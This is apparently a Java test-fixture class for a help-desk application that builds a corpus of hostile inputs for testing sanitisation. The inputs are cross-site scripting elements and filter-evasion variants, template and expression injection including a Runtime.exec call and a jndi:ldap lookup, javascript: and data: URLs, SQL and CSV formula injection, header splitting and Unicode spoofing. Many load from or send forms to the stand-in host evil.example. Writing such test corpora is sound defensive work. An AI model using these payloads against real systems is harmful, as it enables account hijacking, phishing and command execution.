package org.guildhall.desk;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.TreeSet;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;

/**
 * What somebody may write who wants the desk to do something: put together from elements that run or load, from ways out of
 * where text may stand, from ways to write it so that a filter misses it, and from what templates, style sheets and the eye
 * take for something else. Whatever runs sets {@code window.hurt}; whatever becomes an element carries {@code data-hostile}.
 */
final class Hostile {

    /** Elements that run something, load something or change what the page is. */
    private static final List<String> ELEMENTS = List.of(
            "<script data-hostile>window.hurt=1</script>",
            "<script data-hostile src=//evil.example/x.js></script>",
            "<img data-hostile src=x onerror=window.hurt=1>",
            "<img data-hostile src='//evil.example/pixel'>",
            "<image data-hostile src=x onerror=window.hurt=1>",
            "<svg data-hostile onload=window.hurt=1>",
            "<svg data-hostile><script>window.hurt=1</script></svg>",
            "<svg data-hostile><animate onbegin=window.hurt=1 attributeName=x dur=1s>",
            "<svg data-hostile><use href='data:image/svg+xml,<svg id=x onload=window.hurt=1>#x'/></svg>",
            "<svg data-hostile><foreignObject><iframe srcdoc='<script>parent.hurt=1</script>'></foreignObject></svg>",
            "<math data-hostile><mtext><table><mglyph><style><img src=x onerror=window.hurt=1>",
            "<iframe data-hostile src=javascript:parent.hurt=1></iframe>",
            "<iframe data-hostile srcdoc='<script>parent.hurt=1</script>'></iframe>",
            "<object data-hostile data=javascript:window.hurt=1></object>",
            "<embed data-hostile src=javascript:window.hurt=1>",
            "<video data-hostile><source onerror=window.hurt=1></video>",
            "<audio data-hostile src=x onerror=window.hurt=1></audio>",
            "<details data-hostile open ontoggle=window.hurt=1>x</details>",
            "<input data-hostile autofocus onfocus=window.hurt=1>",
            "<select data-hostile autofocus onfocus=window.hurt=1></select>",
            "<marquee data-hostile onstart=window.hurt=1>x</marquee>",
            "<body data-hostile onload=window.hurt=1>",
            "<style data-hostile>*{background:url(//evil.example/css)}</style>",
            "<link data-hostile rel=stylesheet href=//evil.example/x.css>",
            "<link data-hostile rel=prefetch href=//evil.example/x>",
            "<base data-hostile href=//evil.example/>",
            "<meta data-hostile http-equiv=refresh content='0;url=//evil.example/'>",
            "<form data-hostile action=//evil.example/><button>Send reply</button></form>",
            "<button data-hostile form=reply-form formaction=//evil.example/>Send reply</button>",
            "<a data-hostile href=javascript:window.hurt=1 id=main>Back to the queue</a>",
            "<template data-hostile shadowrootmode=open><script>window.hurt=1</script></template>",
            "<div data-hostile hx-get=/logout hx-trigger=load></div>",
            "<div data-hostile hx-post=/logout hx-trigger=load hx-vals='js:{a:window.hurt=1}'></div>",
            "<div data-hostile hx-on::load='window.hurt=1' hx-on:click='window.hurt=1'></div>",
            "<div data-hostile hx-ext=sse sse-connect=//evil.example/ sse-swap=message></div>",
            "<div data-hostile style='position:fixed;inset:0;background:url(//evil.example/x)'>You are signed out</div>",
            "<dialog data-hostile open><form action=//evil.example/><input name=password></form></dialog>",
            "<p data-hostile id=announce role=status>Ring 0900</p>",
            "<slot data-hostile></slot><portal data-hostile src=//evil.example/></portal>",
            "<noscript data-hostile><p title='</noscript><img src=x onerror=window.hurt=1>'></noscript>");

    /** Ways out of where a text may stand. */
    private static final List<String> WAYS_OUT = List.of(
            "",
            "\"><",
            "'>",
            "\" autofocus onfocus=window.hurt=1 x=\"",
            "</bdi></p></li>",
            "</title>",
            "</textarea>",
            "-->",
            "]]>");

    /** Ways to write something so that a filter takes it for something else. */
    private static final List<UnaryOperator<String>> DISGUISES = List.of(
            text -> text,
            text -> text.toUpperCase(Locale.ROOT)
                    .replace("WINDOW.HURT", "window.hurt")
                    .replace("PARENT.HURT", "parent.hurt"),
            text -> text.replace(" ", "/").replace("script", "scr\tipt"),
            text -> text.replace("<", "<\u0001").replace("=", "=\u000B"));

    /** What templates and script frameworks take for theirs; half of it would set the mark, half would show a secret. */
    private static final List<String> TEMPLATES = List.of(
            "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
            "[(${@shell.council()})]",
            "__${T(java.lang.System).getenv()}__::.x",
            "${7*7}",
            "*{7*7}",
            "#{7*7}",
            "@{/logout}",
            "~{desk/staff :: fields}",
            "<th:block data-hostile th:utext='${csrf}'></th:block>",
            "<div data-hostile th:replace='~{desk/staff}'></div>",
            "{{constructor.constructor('window.hurt=1')()}}",
            "{{7*7}}",
            "{%import os%}{{os}}",
            "<%= 7*7 %>",
            "#set($x=7)$x",
            "${jndi:ldap://evil.example/x}",
            "%{(#_='x')}",
            "`${window.hurt=1}`",
            "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+window.hurt=1//'>");

    /** Addresses that run something, in places where a link is expected. */
    private static final List<String> ADDRESSES = List.of(
            "javascript:window.hurt=1",
            "JaVaScRiPt:window.hurt=1",
            "java\tscript:window.hurt=1",
            "\u0001javascript:window.hurt=1",
            "javascript&colon;window.hurt=1",
            "vbscript:window.hurt=1",
            "data:text/html;base64," + base64("<script>parent.hurt=1</script>"),
            "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.hurt=1'/>",
            "//evil.example/",
            "\\\\evil.example\\share",
            "file:///etc/passwd",
            "blob:https://evil.example/x");

    private static final List<String> PLACES = List.of(
            "%s",
            "<%s>",
            "[click](%s)",
            "![x](%s)",
            "<a data-hostile href=\"%s\">x</a>",
            "<img data-hostile src=\"%s\">",
            "url(%s)");

    /** What the eye takes for something else, or what breaks out of its line. */
    private static final List<String> TRICKS = List.of(
            "photo\u202Egpj.exe",
            "\u2066\u202Eevil\u2069",
            "\u200F\u200E\u061C",
            "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309".repeat(40),
            "\u0007\b\u001B[31mred\u001B[0m\u007F\u009B31m",
            "\u0085\u2028\u2029",
            "\uFEFF\u200B\u200C\u200D",
            "\uFF1Cscript\uFF1Ewindow.hurt=1\uFF1C/script\uFF1E",
            "+ADw-script+AD4-window.hurt=1+ADw-/script+AD4-",
            "&lt;script&gt;window.hurt=1&lt;/script&gt;",
            "&#x3c;img src=x onerror=window.hurt=1&#x3e;",
            "%3Cscript%3Ewindow.hurt=1%3C/script%3E",
            "\\u003cscript\\u003ewindow.hurt=1\\u003c/script\\u003e",
            "=cmd|'/c calc'!A1",
            "@SUM(1+1)*cmd|'/c calc'!A1",
            "'; drop table messages; --",
            "\r\nSet-Cookie: guildhall-desk=x\r\n\r\n<script>window.hurt=1</script>",
            "W".repeat(3_000),
            "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67".repeat(100));

    private Hostile() {}

    /** All of them, each once; none has U+0000, which nobody can store. */
    static List<String> strings() {
        Stream<String> elements = ELEMENTS.stream()
                .flatMap(element -> WAYS_OUT.stream().map(out -> out + element))
                .flatMap(broken -> DISGUISES.stream().map(how -> how.apply(broken)));
        Stream<String> templates = TEMPLATES.stream()
                .flatMap(template -> WAYS_OUT.stream().limit(4).map(out -> out + template));
        Stream<String> addresses =
                ADDRESSES.stream().flatMap(address -> PLACES.stream().map(place -> place.replace("%s", address)));
        return List.copyOf(new TreeSet<>(Stream.of(elements, templates, addresses, TRICKS.stream())
                .flatMap(part -> part)
                .toList()));
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.US_ASCII));
    }
}
